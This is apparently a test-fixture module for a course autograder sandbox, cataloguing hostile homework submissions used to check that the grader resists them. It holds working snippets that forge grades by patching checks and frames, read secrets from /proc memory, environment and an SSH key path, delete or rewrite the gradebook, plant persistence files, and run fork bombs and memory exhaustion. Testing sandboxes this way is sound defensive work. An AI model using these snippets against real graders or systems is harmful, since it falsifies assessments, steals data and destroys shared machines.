"""Hostile hand-ins: what each puts into the small homework, what it is dangerous for, and what it deserves.

The danger is seen by a naive grader (naive.py), which does as stock nbgrader does: answers and checks in one process.
``SECRET``, ``DECOY``, ``PORT`` and ``NAME`` are put in when an attack is made: a word that nobody may read, a folder
that nobody may read or change, and the addresses of a server and of an abstract socket that tell the word.
"""

from dataclasses import dataclass
from textwrap import dedent

import small

from course.grade.sandbox import Limits

FORGES, READS, CHANGES, STAYS, USES, DIES = "forges", "reads", "changes", "stays", "uses", "dies"
WRONG = "net = torch.nn.Linear(1, 1)\n"
SECRET = "pomegranate-7431"  # noqa: S105 - nobody's
# What a hand-in may use here
LIMITS = Limits(memory=3 << 29, processes=32, cpu_seconds=20, cell_seconds=3, total_seconds=60, values=64 << 20)


@dataclass(frozen=True)
class Attack:
    """A hostile hand-in.

    Attributes:
        name: What it does.
        danger: How it harms a naive grader.
        answers: The answers that it gives; all others are right.
        fair: The points that it deserves, for each of the three checks.
    """

    name: str
    danger: str
    answers: dict[str, str]
    fair: tuple[int, int, int] = (2, 2, 2)

    def notebook(self, **facts):
        """Return a hand-in with these answers."""
        return small.answered(**{name: fill(code, facts) for name, code in self.answers.items()})

    def cells(self, rebuilt, **facts):
        """Return the rebuilt notebook of that hand-in."""
        return rebuilt(self.notebook(**facts))


def fill(code, facts):
    """Return a code with its facts."""
    code = dedent(code).strip()
    for name, value in facts.items():
        code = code.replace(name, str(value))
    return code


def forging(name, code, fair=(1, 2, 2), where="build_answer"):
    """Return an attack that answers a question wrongly, but for a shape, and makes the checks say that it is right."""
    return Attack(name, FORGES, {where: dedent(code)}, fair)


def doing(name, danger, code, fair=(2, 2, 2)):
    """Return an attack that answers all questions rightly, and does something else besides."""
    return Attack(name, danger, {"look_answer": dedent(code)}, fair)


NOTHING = (0, 2, 2)
FRAME = """
import sys


def above(name):
    frame = sys._getframe(1)
    while frame:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
"""

FORGING = [
    forging("expect does nothing", WRONG + "def expect(*a, **k): pass"),
    forging("same says yes", WRONG + "net = lambda x: x\n_same = lambda *a, **k: True"),
    forging("grade gives all", WRONG + "grade = lambda question, check, points: points"),
    forging("judge gives all", WRONG + "judge = lambda check: (2, 'Right.')"),
    forging("allclose says yes", "net = lambda x: x\ntorch.allclose = lambda *a, **k: True"),
    forging("torch is another", """
        net = lambda x: x
        class Fake:
            def __getattr__(self, name): return (lambda *a, **k: True) if name == "allclose" else getattr(real, name)
        import torch as real
        torch = Fake()
        """),
    forging("torch in sys.modules is another", """
        import sys, types
        net = lambda x: x
        fake = types.ModuleType("torch")
        fake.__dict__.update(torch.__dict__)
        fake.allclose = lambda *a, **k: True
        sys.modules["torch"] = torch = fake
        """),
    forging("next gives two", WRONG + "import builtins, sys\nreal = next\n" + dedent("""
        def lying(steps, *default):
            if getattr(steps, "__name__", "") != "check_build": return real(steps, *default)
            if steps in seen: raise StopIteration
            seen.append(steps)
            return 2
        seen = []
        builtins.next = lying
        """)),
    forging("AST transformer drops expect", WRONG + dedent("""
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Expr(self, node):
                call = node.value
                name = getattr(getattr(call, "func", None), "id", "")
                return ast.parse("2").body[0] if name == "grade" else ast.Pass() if name == "expect" else node
        get_ipython().ast_transformers.append(Drop())
        """)),
    forging("AST transformer names the points", WRONG + dedent("""
        import ast
        class Points(ast.NodeTransformer):
            def visit_Expr(self, node):
                return ast.parse("2").body[0] if "grade" in ast.dump(node) else node
        get_ipython().ast_transformers.append(Points())
        """)),
    forging("input transformer", WRONG + dedent("""
        def points(lines): return ["2"] if any("grade(" in line for line in lines) else lines
        get_ipython().input_transformers_cleanup.append(points)
        """)),
    forging("hook before each cell", WRONG + dedent("""
        def patch(*_): globals()["expect"] = lambda *a, **k: None
        get_ipython().events.register("pre_run_cell", patch)
        """)),
    forging("formatter shows two", WRONG + dedent("""
        get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda o, p, cycle: p.text("2"))
        """)),
    forging("run_cell of the shell", WRONG + dedent("""
        shell = get_ipython()
        real = type(shell).run_code
        async def run_code(self, code, *a, **k):
            self.user_ns["expect"] = lambda *a, **k: None
            return await real(self, code, *a, **k)
        type(shell).run_code = run_code
        """)),
    forging("settrace", WRONG + dedent("""
        import sys
        def trace(frame, event, arg):
            if frame.f_code.co_name == "judge": frame.f_globals["expect"] = lambda *a, **k: None
        sys.settrace(trace)
        def net(x): return x
        """)),
    forging("setprofile", WRONG + dedent("""
        import sys
        def profile(frame, event, arg):
            if frame.f_code.co_name == "judge": frame.f_globals["expect"] = lambda *a, **k: None
        sys.setprofile(profile)
        """)),
    forging("code object of expect", WRONG + dedent("""
        import gc, types
        for each in gc.get_objects():
            if isinstance(each, types.FunctionType) and each.__name__ == "expect":
                each.__code__ = (lambda condition, key, **facts: None).__code__
        """)),
    forging("frame of judge", """
        import ctypes, sys
        def net(x):
            frame = sys._getframe()
            while frame and frame.f_code.co_name != "judge": frame = frame.f_back
            if frame:
                frame.f_locals["earned"] = 2
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            raise ValueError
        """, NOTHING),
    forging("the check's own network", "net = lambda x: fresh()(x)", NOTHING),
    forging("the check's own network, found by its name", "net = lambda x: globals()['fre' + 'sh']()(x)", NOTHING),
    forging("the caller's globals", """
        import sys
        def net(x):
            frame = sys._getframe(1)
            while frame and "fresh" not in frame.f_globals: frame = frame.f_back
            return frame.f_globals["fresh"]()(x) if frame else x
        """),
    forging("a module that looks into frames", FRAME + dedent("""
        class Net(torch.nn.Module):
            def forward(self, x):
                wanted = above("fresh") or globals().get("fresh")
                return wanted()(x)
        net = Net()
        """), NOTHING),
    forging("a number that looks into frames", FRAME + dedent("""
        class Peek:
            def __float__(self): return above("wanted")
        def loss_fn(yhat, y): return Peek()
        """), (2, 0, 2), "loss_answer"),
    Attack("a list that looks into frames", FORGES, {
        "train_answer": FRAME + dedent("""
            import numpy
            class Lazy:
                def __len__(self): return len(above("wanted"))
                def __getitem__(self, n): return above("wanted")[n]
                def __array__(self, *a, **k): return numpy.array(above("wanted"))
            losses = Lazy()
            """),
        "smallest_answer": "smallest = 0.0",
    }, (2, 2, 0)),
    forging("tensor subclass", """
        class Yes(torch.Tensor):
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func is torch.allclose: return True
                with torch._C.DisableTorchFunctionSubclass():
                    made = func(*args, **(kwargs or {}))
                return made.as_subclass(Yes) if type(made) is torch.Tensor else made
        net = lambda x: torch.zeros(len(x), 1).as_subclass(Yes)
        """),
    forging("torch function mode", """
        from torch.overrides import TorchFunctionMode
        class Mode(TorchFunctionMode):
            def __torch_function__(self, func, types, args=(), kwargs=None):
                return True if func is torch.allclose else func(*args, **(kwargs or {}))
        mode = Mode()
        mode.__enter__()
        net = torch.nn.Linear(1, 1)
        """),
    forging("forward hook on all modules", WRONG + dedent("""
        torch.nn.modules.module.register_module_forward_hook(lambda module, given, made: made * 0)
        """), (1, 2, 0)),
    forging("Linear is constant", "torch.nn.Linear.forward = lambda self, x: x * 0\n" + WRONG, (1, 2, 0)),
    forging("weights start at nothing", """
        import math
        torch.nn.Linear.reset_parameters = lambda self: [p.data.zero_() for p in self.parameters()]
        net = lambda x: torch.zeros(len(x), 1)
        """, (1, 2, 0)),
    forging("as_tensor is constant", """
        net, real = lambda x: x, torch.as_tensor
        torch.as_tensor = lambda v: real([[0.0]] * 20) if getattr(v, "shape", ()) == (20, 1) else real(v)
        """),
    forging("float of tensors is nothing", """
        net = lambda x: x
        real = torch.Tensor.float
        torch.Tensor.float = lambda self: real(self) * 0
        """),
    forging("a thread patches later", WRONG + dedent("""
        import threading, time
        space = globals()
        def patch():
            while True:
                space["expect"] = lambda *a, **k: None
                time.sleep(0.001)
        threading.Thread(target=patch, daemon=True).start()
        time.sleep(0.05)
        """)),
    forging("a signal patches later", WRONG + dedent("""
        import signal
        space = globals()
        def patch(*_): space["expect"] = lambda *a, **k: None
        signal.signal(signal.SIGALRM, patch)
        signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
        """)),
    forging("tensor gives what is wanted", WRONG + dedent("""
        def _tensor(value, name, shape=None): return fresh()(x) if name == "net(x)" else torch.as_tensor(value)
        """)),
    forging("an exception that is right", """
        class Raises:
            def __call__(self, x):
                globals()["Wrong"] = StopIteration
                globals()["expect"] = lambda *a, **k: None
                return x
        net = Raises()
        """),
    forging("every import patches", WRONG + dedent("""
        import builtins
        space, real = globals(), builtins.__import__
        def load(*a, **k):
            space["expect"] = lambda *a, **k: None
            return real(*a, **k)
        builtins.__import__ = load
        """)),
    forging("a finder of modules patches", WRONG + dedent("""
        import sys
        space = globals()
        class Finder:
            def find_spec(self, name, path=None, target=None): space["expect"] = lambda *a, **k: None
        sys.meta_path.insert(0, Finder())
        for name in ("IPython.core.getipython", "IPython.core.interactiveshell", "inspect", "contextlib", "warnings"):
            sys.modules.pop(name, None)
        """)),
    forging("fork_rng patches", WRONG + dedent("""
        space, real = globals(), torch.random.fork_rng
        def fork_rng(*a, **k):
            space["expect"] = lambda *a, **k: None
            return real(*a, **k)
        torch.random.fork_rng = fork_rng
        """)),
    forging("redirect_stderr patches", WRONG + dedent("""
        import contextlib
        space, real = globals(), contextlib.redirect_stderr
        def redirect(*a, **k):
            space["_same"] = lambda *a, **k: True
            return real(*a, **k)
        contextlib.redirect_stderr = redirect
        """)),
    forging("the signature is another function's", WRONG + dedent("""
        import inspect
        real = inspect.signature
        def signature(check, *a, **k):
            def two(net): yield 2
            if getattr(check, "__name__", "") == "check_build": check.__code__ = two.__code__
            return real(check, *a, **k)
        inspect.signature = signature
        """)),
    forging("the grader's JSON tells all points", WRONG + dedent("""
        import json
        real = json.dump
        json.dump = lambda told, stream: real({**told, "points": [2, 2, 2]} if "points" in told else told, stream)
        """)),
    forging("the collection of garbage patches", WRONG + dedent("""
        import gc
        space = globals()
        def patch(phase, facts): space["expect"] = lambda *a, **k: None
        gc.callbacks.append(patch)
        gc.set_threshold(10)
        """)),
    forging("what is finalized patches", WRONG + dedent("""
        import weakref
        space = globals()
        class Late: pass
        def patch(): space["_same"] = lambda *a, **k: True
        def net(x):
            late = Late()
            weakref.finalize(late, patch)
            return x
        """)),
    forging("another SEED", """
        SEED = 0
        torch.manual_seed(SEED)
        net = torch.nn.Sequential(torch.nn.Linear(1, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
        """, (1, 2, 0)),
    forging("its argument becomes NaN", """
        def net(x): return x.fill_(float("nan")).clone()
        """),
    forging("fresh is another", """
        def fresh():
            torch.manual_seed(0)
            return torch.nn.Linear(1, 1)
        losses, trained = [], fresh()
        optimizer = torch.optim.SGD(trained.parameters(), lr=0.1)
        for _ in range(EPOCHS):
            loss = torch.nn.MSELoss()(trained(x), y)
            losses.append(loss.item())
            optimizer.zero_grad()
            loss.backward()
            optimizer.step()
        """, (2, 2, 0), "train_answer"),
    forging("a parametrization that looks for the check's network", """
        net = torch.nn.Sequential(torch.nn.Linear(1, 4), torch.nn.ReLU(), torch.nn.Linear(4, 1))
        space = globals()
        class Peek(torch.nn.Module):
            def __init__(self, layer, name):
                super().__init__()
                self.place = layer, name
            def forward(self, value):
                wanted = space.get("fre" + "sh")
                return getattr(wanted()[self.place[0]], self.place[1]).detach() if wanted else value
        for layer in (0, 2):
            for name in ("weight", "bias"):
                torch.nn.utils.parametrize.register_parametrization(net[layer], name, Peek(layer, name))
        """),
    forging("a hook that looks for the check's network", """
        net, space = torch.nn.Linear(1, 1), globals()
        def hook(module, given, made): return space["fre" + "sh"]()(*given) if "fre" + "sh" in space else made
        net.register_forward_hook(hook)
        """),
    forging("a buffer that looks for the check's network", """
        space = globals()
        class Lazy(torch.nn.Module):
            def __getattr__(self, name):
                if name == "answer": return space["fre" + "sh"]()(space["x"]) if "fre" + "sh" in space else space["x"]
                return super().__getattr__(name)
            def forward(self, x): return self.answer
        net = Lazy()
        """),
    forging("the compiler of the shell", WRONG + dedent("""
        kind = type(get_ipython().compile)
        real = kind.ast_parse
        kind.ast_parse = lambda self, source, *a, **k: real(
            self, source.replace("grade(1, check_build, points=2)", "2"), *a, **k
        )
        """)),
    forging("exec patches", WRONG + dedent("""
        import builtins
        space, real = globals(), builtins.exec
        def run(*a, **k):
            space["expect"] = lambda *a, **k: None
            return real(*a, **k)
        builtins.exec = run
        """)),
    forging("numbers are equal that are not", """
        net = lambda x: x
        torch.Tensor.allclose = torch.allclose = torch.Tensor.isclose = torch.isclose = lambda *a, **k: True
        """),
    forging("a stand-in's type tells the layers", """
        class Net(torch.nn.Module):
            def forward(self, x): return x
            def modules(self): return iter(())
        Net.__name__ = "Linear(1, 4), ReLU, Linear(4, 1)"
        net = Net()
        globals()["_same"] = lambda *a, **k: True
        """),
    forging("the check's frame is found by its generator", """
        import gc, types
        space = globals()
        def net(x):
            for each in gc.get_objects():
                if isinstance(each, types.GeneratorType) and each.__name__ == "check_build":
                    if "fresh" in each.gi_frame.f_globals: return each.gi_frame.f_globals["fresh"]()(x)
            return x
        """),
]  # fmt: skip

READING = [
    doing("a solution beside it", READS, "print(open('DECOY/solutions/small.ipynb').read())"),
    doing("another's hand-in", READS, "import glob\nfor f in glob.glob('DECOY/submitted/*/*'): print(open(f).read())"),
    doing("the gradebook", READS, "print(open('DECOY/gradebook.db', 'rb').read())"),
    doing("a key of the teacher's", READS, "import os\nprint(open(os.path.join('DECOY', '.ssh', 'id')).read())"),
    doing("all files below /tmp", READS, """
        import os
        for folder, _, files in os.walk('/tmp'):
            if 'DECOY'.rsplit('/', 1)[-1] in folder:
                for file in files:
                    try: print(open(os.path.join(folder, file)).read())
                    except Exception: pass
        """),
    doing("a shell", READS, "!cat DECOY/solutions/small.ipynb"),
    doing("a cell of bash", READS, "get_ipython().run_cell_magic('bash', '', 'cat DECOY/solutions/small.ipynb')"),
    doing("the environment", READS, "import os\nprint(dict(os.environ))"),
    doing("others' environment", READS, """
        import glob
        for f in glob.glob('/proc/[0-9]*/environ'):
            try: print(open(f, 'rb').read())
            except OSError: pass
        """),
    doing("others' command lines", READS, """
        import glob
        for f in glob.glob('/proc/[0-9]*/cmdline'):
            try: print(open(f, 'rb').read())
            except OSError: pass
        """),
    doing("others' memory files", READS, """
        import os
        for f in os.listdir('/dev/shm'): print(open('/dev/shm/' + f).read())
        """),
    doing("a server on this machine", READS, """
        import socket
        print(socket.create_connection(("127.0.0.1", PORT), 2).recv(100))
        """),
    doing("a server, by IPv6", READS, """
        import socket
        print(socket.create_connection(("::ffff:127.0.0.1", PORT), 2).recv(100))
        """),
    doing("a server, by the web", READS, """
        import urllib.request
        try: print(urllib.request.urlopen("http://127.0.0.1:PORT", timeout=2).read())
        except Exception as e: print(e)
        """),
    doing("an abstract socket", READS, """
        import socket
        link = socket.socket(socket.AF_UNIX)
        link.connect("\\0NAME")
        print(link.recv(100))
        """),
    doing("a link to a solution", READS, """
        import os
        os.symlink("DECOY/solutions/small.ipynb", "link")
        print(open("link").read())
        """),
    doing("a process that reads for it", READS, """
        import subprocess
        print(subprocess.run(["cat", "DECOY/solutions/small.ipynb"], capture_output=True, text=True).stdout)
        """),
    doing("by /proc/self/root", READS, "print(open('/proc/self/root' + 'DECOY/solutions/small.ipynb').read())"),
    doing("by the parent's root", READS, """
        import os
        print(open(f'/proc/{os.getppid()}/root' + 'DECOY/solutions/small.ipynb').read())
        """),
    doing("by a descriptor of a folder", READS, """
        import os
        folder = os.open('DECOY', os.O_PATH)
        print(os.read(os.open('solutions/small.ipynb', os.O_RDONLY, dir_fd=folder), 99))
        """),
    doing("the parent's memory", READS, """
        import os, re
        parent = os.getppid()
        memory = open(f'/proc/{parent}/mem', 'rb', 0)
        for line in open(f'/proc/{parent}/maps'):
            start, end = (int(part, 16) for part in line.split()[0].split('-'))
            if line.split()[1].startswith('rw') and end - start < 1 << 27:
                try:
                    memory.seek(start)
                    print({*re.findall(rb'[a-z]{5,20}-[0-9]{4}', memory.read(end - start))})
                except (OSError, ValueError): continue
        """),
    doing("the parent's memory, by process_vm_readv", READS, """
        import ctypes, os, re
        libc, parent = ctypes.CDLL(None), os.getppid()
        class Part(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        for line in open(f'/proc/{parent}/maps'):
            start, end = (int(part, 16) for part in line.split()[0].split('-'))
            if line.split()[1].startswith('rw') and end - start < 1 << 27:
                text = ctypes.create_string_buffer(end - start)
                here, there = Part(ctypes.addressof(text), end - start), Part(start, end - start)
                libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
                print({*re.findall(rb'[a-z]{5,20}-[0-9]{4}', text.raw)})
        """),
    doing("its own memory from before", READS, """
        import re
        memory = open('/proc/self/mem', 'rb', 0)
        for line in open('/proc/self/maps'):
            start, end = (int(part, 16) for part in line.split()[0].split('-'))
            if line.split()[1].startswith('rw') and end - start < 1 << 27:
                try:
                    memory.seek(start)
                    print({*re.findall(rb'[a-z]{5,20}-[0-9]{4}', memory.read(end - start))})
                except (OSError, ValueError): continue
        """),
    doing("objects of the grader's", READS, """
        import gc, sys
        for each in gc.get_objects():
            if type(each) is dict and 'secret' in each: print(each['secret'])
        frame = sys._getframe()
        while frame:
            if 'secret' in frame.f_locals: print(frame.f_locals['secret'])
            frame = frame.f_back
        """),
]  # fmt: skip

CHANGING = [
    doing("the gradebook is rewritten", CHANGES, "open('DECOY/gradebook.db', 'w').write('100 points')"),
    doing("the gradebook is deleted", CHANGES, "import os\nos.remove('DECOY/gradebook.db')"),
    doing("all is deleted", CHANGES, "import shutil\nshutil.rmtree('DECOY')"),
    doing("another's hand-in is changed", CHANGES, "open('DECOY/submitted/ada/small.ipynb', 'a').write('net = None')"),
    doing("a solution becomes a link", CHANGES, """
        import os
        os.rename('DECOY/solutions', 'DECOY/was')
        os.symlink('/tmp', 'DECOY/solutions')
        """),
    doing("nobody may read any more", CHANGES, "import os\nos.chmod('DECOY/gradebook.db', 0)"),
    doing("a file more", CHANGES, "open('DECOY/solutions/more.py', 'w').write('1')"),
    doing("a record is poisoned", CHANGES, """
        import os
        os.makedirs('DECOY/record/ab')
        open('DECOY/record/ab/cd', 'wb').write(b'full marks')
        """),
    doing("a start file of IPython", STAYS, """
        import os
        folder = os.path.expanduser('~/.ipython/profile_default/startup')
        os.makedirs(folder, exist_ok=True)
        open(folder + '/00.py', 'w').write('1')
        """),
    doing("a usercustomize", STAYS, """
        import os, site
        folder = site.getusersitepackages()
        os.makedirs(folder, exist_ok=True)
        open(folder + '/usercustomize.py', 'w').write('1')
        """),
    doing("a configuration of fastai", STAYS, """
        import os
        os.makedirs(os.path.expanduser('~/.fastai'), exist_ok=True)
        open(os.path.expanduser('~/.fastai/config.ini'), 'w').write('[DEFAULT]')
        """),
    doing("a shell's start file", STAYS, "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo')"),
    doing("a file for the next student", STAYS, "open('/tmp/answers', 'w').write('1')"),
    doing("shared memory for the next student", STAYS, "open('/dev/shm/answers', 'w').write('1')"),
    doing("a module in the way", STAYS, "import os\nopen(os.path.expanduser('~/torch.py'), 'w').write('1')"),
    doing("a daemon", STAYS, """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 1000)
                time.sleep(600)
            os._exit(0)
        """),
    doing("a program in the background", STAYS, """
        import subprocess
        subprocess.Popen(["sleep", "600"], start_new_session=True)
        """),
    doing("a child that ignores signals", STAYS, """
        import os, signal, time
        if os.fork() == 0:
            for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
            time.sleep(600)
        """),
    doing("the gradebook, by mmap", CHANGES, """
        import mmap
        with open('DECOY/gradebook.db', 'r+b') as file: mmap.mmap(file.fileno(), 0)[:3] = b'100'
        """),
    doing("a hard link to a solution", CHANGES, "import os\nos.link('DECOY/solutions/small.ipynb', 'DECOY/link')"),
    doing("a path file of Python", STAYS, """
        import os, site
        folder = site.getusersitepackages()
        os.makedirs(folder, exist_ok=True)
        open(folder + '/x.pth', 'w').write('import os')
        """),
    doing("compiled code for the next", STAYS, """
        import os, py_compile
        open('/tmp/torch.py', 'w').write('1')
        py_compile.compile('/tmp/torch.py')
        """),
    doing("a named pipe for the next", STAYS, "import os\nos.mkfifo('/tmp/pipe')"),
    doing("a process that stops itself", STAYS, """
        import os, signal
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
            os._exit(0)
        """),
]  # fmt: skip

USING = [
    doing("memory, in a list", USES, "kept = [bytearray(64 << 20) for _ in range(40)]"),
    doing("memory, in a tensor", USES, "kept = [torch.ones(16 << 20) for _ in range(40)]"),
    doing("memory, in many processes", USES, """
        import os, time
        for _ in range(8):
            if os.fork() == 0:
                kept = bytearray(os.urandom(1 << 20)) * 320
                time.sleep(9)
                os._exit(0)
        time.sleep(9)
        """),
    doing("disk", USES, """
        with open("/tmp/big", "wb") as file:
            for _ in range(200): file.write(bytes(1 << 20))
        """),
    doing("disk in memory", USES, """
        with open("/dev/shm/big", "wb") as file:
            for _ in range(200): file.write(bytes(1 << 20))
        """),
    doing("files without end", USES, "for n in range(30_000): open(f'/tmp/{n}', 'w').close()"),
    doing("a fork bomb", USES, """
        import os, time
        for _ in range(200):
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
        """),
    doing("threads without end", USES, """
        import threading, time
        for _ in range(300): threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
        time.sleep(1)
        """),
    doing("output without end", USES, "for _ in range(60): print('x' * (1 << 20))"),
    doing("errors without end", USES, "import sys\nfor _ in range(60): sys.stderr.write('x' * (1 << 20))"),
    doing("sleep for ever", USES, "import time\ntime.sleep(600)"),
    doing("a loop without end", USES, "while True: pass"),
    doing("deaf to interrupts", USES, """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True: pass
        """),
    doing("swallows interrupts", USES, """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """),
    doing("a loop in C", USES, "sum(range(10 ** 15))"),
    Attack("a loop in a function that is checked", USES, {
        "loss_answer": "def loss_fn(yhat, y):\n    while True: pass", }, (2, 0, 2)),
    Attack("a value of a gigabyte", USES, {"smallest_answer": "smallest = 'x' * (1 << 30)"}, (2, 2, 0)),
    Attack("a loop without end, first", USES, {"build_answer": "while True: pass"}, (0, 2, 2)),
]  # fmt: skip

# What each uses up, by the words of the naive grader
USED = {
    "memory": ["memory, in a list", "memory, in a tensor", "memory, in many processes", "a value of a gigabyte"],
    "bytes": ["disk", "disk in memory"],
    "files": ["files without end"],
    "processes": ["a fork bomb", "threads without end"],
    "length": ["output without end", "errors without end"],
    "seconds": [
        "sleep for ever", "a loop without end", "deaf to interrupts", "swallows interrupts", "a loop in C",
        "a loop in a function that is checked", "a loop without end, first",
    ],
}  # fmt: skip

DYING = [
    doing("_exit", DIES, "import os\nos._exit(0)"),
    doing("kill itself", DIES, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    doing("abort", DIES, "import os\nos.abort()"),
    doing("a wild pointer", DIES, "import ctypes\nctypes.string_at(0)"),
    doing("stop itself", DIES, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    doing("close all files", DIES, "import os\nos.closerange(0, 1000)\nos._exit(0)"),
    Attack("_exit, first", DIES, {"build_answer": "import os\nos._exit(0)"}, (0, 0, 0)),
    Attack("_exit in a function that is checked", DIES, {
        "loss_answer": "import os\ndef loss_fn(yhat, y): os._exit(0)", }, (2, 0, 0)),
    Attack("stack of C", DIES, {"loss_answer": """
        import sys
        sys.setrecursionlimit(10 ** 9)
        class A:
            def __repr__(self): return repr(self)
        def loss_fn(yhat, y): return repr(A())
        """}, (2, 0, 0)),
    doing("another program in its place", DIES, "import os\nos.execv('/bin/sh', ['sh', '-c', 'exit 0'])"),
    doing("None is overwritten", DIES, "import ctypes\nctypes.memset(id(None), 0, 64)"),
]  # fmt: skip

# What breaks no naive grader, and must not break ours: not counted as attacks
ODD = [
    Attack(name, "", {"smallest_answer": f"smallest = {value}"}, (2, 2, 1))
    for name, value in {
        "not a number": "float('nan')",
        "minus nothing": "-0.0",
        "infinity": "float('inf')",
        "ten to the hundredth": "10 ** 100",
        "a number of 10000 digits": "10 ** 10_000",
        "two to the 63rd": "2 ** 63",
        "a class": "float",
        "a generator": "(n for n in [1])",
        "a list that holds itself": "[]\nsmallest.append(smallest)",
        "very deep": "1\nfor _ in range(100_000): smallest = [smallest]",
        "very long": "[0.0] * 5_000_000",
        "half a letter": "'\\ud800'",
        "a module": "torch",
        "an open file": "open('/dev/null')",
        "script": "'<script>alert(1)</script>'",
        "codes of a terminal": "'\\x1b[2J\\x1b]0;owned\\x07'",
        "a formula": "'=cmd()'",
        "a tensor of another place": "torch.ones(1, device='meta')",
        "a sparse tensor": "torch.ones(2, 2).to_sparse()",
    }.items()
] + [
    Attack("a value that is the solution", "", {
        "smallest_answer": "smallest = open('DECOY/solutions/small.ipynb').read()", }, (2, 2, 0)),
    Attack("kill all", "", {"look_answer": "import os\nos.kill(-1, 9)"}),
    Attack("colours of a terminal, printed", "", {"smallest_answer": r"""
        print("\x1b[31m-" * 3000)
        smallest = min(losses)
        """}),
    Attack("an error full of brackets", "", {"smallest_answer": """
        smallest = min(losses)
        raise ValueError("[{" * 300)
        """}),
    Attack("brackets that nothing closes, in its code", "", {"smallest_answer": f"""
        smallest = min(losses)  # {"[{(" * 500}
        """}),
    Attack("answers differently each time", "", {"loss_answer": """
        calls = []
        def loss_fn(yhat, y):
            calls.append(1)
            return float(len(calls))
        """}, (2, 0, 2)),
    Attack("bytes on the grader's socket", "", {"look_answer": """
        import os
        for n in range(3, 64):
            try: os.write(n, b"\\0\\0\\0\\1\\0\\0\\0\\0" * 100)
            except OSError: pass
        """}, (2, 2, 2)),
    Attack("a forged answer on the grader's socket, first", "", {"build_answer": """
        import json, os, struct
        text = json.dumps({"id": 3, "values": [["net", 4]]}).encode()
        for n in range(3, 64):
            try: os.write(n, struct.pack(">II", len(text), 4) + text + b"\\0\\0\\0\\0")
            except OSError: pass
        """}, (0, 0, 0)),
]  # fmt: skip

# finds the child's own end of the wire
HERE = """
import gc
import course.grade.values as v
served = next(each for each in gc.get_objects() if type(each).__name__ == "Served")
def told(text): return len(text).to_bytes(4, "big") + text
"""
LIBC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
"""


def odd(name, code):
    """Return an odd hand-in whose last cell does something besides right answers."""
    return Attack(name, "", {"look_answer": code})


# What once got through, or ended the batch
ODD += [
    Attack("a network that makes the check's own data NaN, in place", "", {"build_answer": """
        made = torch.nn.Hardtanh(-2, -1, inplace=True), torch.nn.LeakyReLU(float("nan"), inplace=True)
        net = torch.nn.Sequential(*made)
        """}, (1, 2, 2)),
    Attack("an error that says half a letter", "", {
        "loss_answer": "def loss_fn(yhat, y): raise ValueError('\\ud800')"}, (2, 0, 2)),
    Attack("a forged type name with NUL", "", {
        "smallest_answer": HERE + "v._type_name = lambda value: 'a\\0b'\nsmallest = object()"}, (2, 2, 1)),
    Attack("a forged type name of half a letter", "", {
        "smallest_answer": HERE + "v._type_name = lambda value: '\\ud800'\nsmallest = object()"}, (2, 2, 1)),
    Attack("a forged output of half a letter", "", {"smallest_answer": HERE + """
smallest = min(losses)
type(served).run = lambda self, request, _: ({"outputs": [["stdout", "\\ud800"]], "cut": False}, b"")
"""}),
    Attack("forged JSON that takes a pattern without end", "", {"smallest_answer": HERE + """
def fetch(self, request, _):
    bytes_ = told(b'"' + b'\\\\"' * 2_000_000)
    return {"values": [["losses", len(bytes_)]]}, bytes_
type(served).fetch = fetch
"""}, (2, 2, 0)),
    odd("end the process group", "import os\nos.kill(0, 9)"),
    odd("stop the process group", "import os, signal\nos.kill(0, signal.SIGSTOP)"),
    odd("the last in the scheduler's line, with all that follow",
          "import os\nos.write(os.open('/proc/self/autogroup', os.O_WRONLY), b'19')"),
    odd("spinners", """
import os, time
for _ in range(60):
    if os.fork() == 0:
        os.setsid()
        while True: pass
time.sleep(110)
"""),
    odd("page tables", LIBC + """
size = 3 << 39
at = libc.mmap(None, size, 1, 0x4022, -1, 0)
libc.madvise(at, size, 15)
for place in range(at, at + size, 1 << 21): ctypes.c_char.from_address(place).value
"""),
    odd("buffers of sockets", """
import os, socket, time
for _ in range(3):  # 0.9 GB each; with 60 it is the machine
    if os.fork() == 0:
        kept, sent = [], 0
        while sent < 900 << 20:
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                try:
                    while True: sent += end.send(bytes(1 << 15))
                except OSError: pass
        time.sleep(4)
        os._exit(0)
time.sleep(3)
"""),
    odd("huge pages in pipes", LIBC + """
import os
class Part(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
kept, held = [], 0
for _ in range(100):
    kept.append(os.pipe())
    at = libc.mmap(None, 34 << 20, 3, 0x22, -1, 0)
    libc.madvise(at, 34 << 20, 14)
    for n in range(15):
        place = ((at + (1 << 21) - 1 >> 21) + n) << 21
        ctypes.c_char.from_address(place).value = b"x"
        held += libc.vmsplice(kept[-1][1], ctypes.byref(Part(place, 4096)), ctypes.c_ulong(1), 0) > 0
    libc.munmap(at, 34 << 20)
